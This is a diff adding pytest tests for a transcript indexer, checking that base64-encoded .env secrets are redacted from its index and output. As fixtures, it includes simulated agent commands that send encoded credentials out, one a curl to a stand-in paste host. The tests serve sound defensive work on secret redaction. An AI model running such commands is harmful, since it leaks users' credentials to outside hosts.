@@ -87,3 +87,71 @@ def test_a_dot_env_in_base64_or_percent_encoded_reaches_no_index_file_nor_output
     deja("index")
     out = deja("show", "5e1d0c52-0000-4000-8000-00000000beef").out
     assert plain[:60] in out and binary[:60] in out and "[redacted" not in out
+
+
+def test_a_dot_env_in_base64_wrapped_with_crlf_or_indented_reaches_no_index_file_nor_output(home):
+    """MIME (RFC 2045) and Windows' `certutil -encode` wrap base64 with CRLF, a YAML block scalar
+    indents its lines: the lines are one blob there too. Decoded a line at a time, a key cut across
+    two lines was no secret in either."""
+    import base64
+
+    from conftest import Transcript
+
+    linear = "lin_api_" + "a1b2c3d4e5" * 4
+    env = f"# staging values, do not commit\nLINEAR={linear}\nDEBUG=1\n"
+    crlf = base64.encodebytes(env.encode()).decode().replace("\n", "\r\n")
+    assert len(crlf.split("\r\n")) > 2 and linear[8:] not in base64.b64decode(crlf.split("\r\n")[0] + "==").decode("latin-1")
+    (Transcript("5e1d0c52-0000-4000-8000-00000000c0de", "/w/okapi", 3)
+     .user("mail the okapi config").bash("certutil -encode .env out.b64 && type out.b64", crlf)
+     .bash("cat values.yaml", "env: |\n" + "".join(f"  {line}\n" for line in crlf.split("\r\n") if line))
+     .say("the okapi config is in the mail").write(home))
+    deja("index")
+    blobs = [line[:40] for line in crlf.split("\r\n") if len(line) >= 40]
+    leaked = [(p.name, b) for p in (home / ".cache/deja").rglob("*") if p.is_file()
+              for b in blobs if b.encode() in p.read_bytes()]
+    assert not leaked
+    shown = deja("show", "5e1d0c52-0000-4000-8000-00000000c0de").out
+    assert shown.count("[redacted:encoded-secret]") == 2 and not [b for b in blobs if b in shown]
+
+
+def test_a_dot_env_in_base64_after_a_url_path_or_percent_encoded_reaches_no_output(home):
+    """Base64 at the end of a URL's path (`/hook/T1BF…`: the path's letters and slashes are base64
+    characters, so the run began at the path and decoded misaligned), and base64 sent in a form body
+    or a query string (its `+`, `/` and `=` percent-encoded: read only once decoded)."""
+    import base64
+    from urllib.parse import quote
+
+    from conftest import Transcript
+
+    openai = "sk-proj-" + "Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc2Df4Gh6Jk8Mn0Pq2St4Vw6Yz8Bc1Df3Gh5Jk7Mn9P"
+    env = f">>>OPENAI_API_KEY={openai}\nDB_PASSWORD=Tr0ub4dor-and-3-horses\n"
+    blob = base64.b64encode(env.encode()).decode()
+    assert "+" in blob and "%2B" in quote(blob, safe="")
+    (Transcript("5e1d0c52-0000-4000-8000-00000000f00d", "/w/okapi", 3)
+     .user("post the okapi config").bash("curl -s https://paste.example/raw/" + blob, "ok")
+     .bash("cat body.txt", "payload " + quote(blob, safe="") + " sent")
+     .say("the okapi config is posted").write(home))
+    deja("index")
+    shown = deja("show", "5e1d0c52-0000-4000-8000-00000000f00d").out
+    assert shown.count("[redacted:encoded-secret]") == 2, shown
+    assert blob[:40] not in shown and quote(blob, safe="")[:40] not in shown
+
+
+def test_a_dot_env_in_wrapped_base64_read_with_line_numbers_reaches_no_output(home):
+    """An agent's file read (`     2→…`, `cat -n`'s `     2\\t…`) numbers the lines of a wrapped blob:
+    they are one blob still. Decoded a line at a time, a key cut across two lines passed."""
+    import base64
+
+    from conftest import Transcript
+
+    linear = "lin_api_" + "a1b2c3d4e5" * 4
+    env = f"# staging values, do not commit\nLINEAR={linear}\nDEBUG=1\n"
+    lines = base64.encodebytes(env.encode()).decode().splitlines()
+    (Transcript("5e1d0c52-0000-4000-8000-00000000ba5e", "/w/okapi", 3)
+     .user("check the okapi secret file").read("/w/okapi/env.b64", "".join(f"{i + 1:6d}\u2192{x}\n" for i, x in enumerate(lines)))
+     .bash("cat -n env.b64", "".join(f"{i + 1:6d}\t{x}\n" for i, x in enumerate(lines)))
+     .say("the okapi secret file is base64").write(home))
+    deja("index")
+    shown = deja("show", "5e1d0c52-0000-4000-8000-00000000ba5e").out
+    assert shown.count("[redacted:encoded-secret]") == 2, shown
+    assert not [x for x in lines if x[:40] in shown]
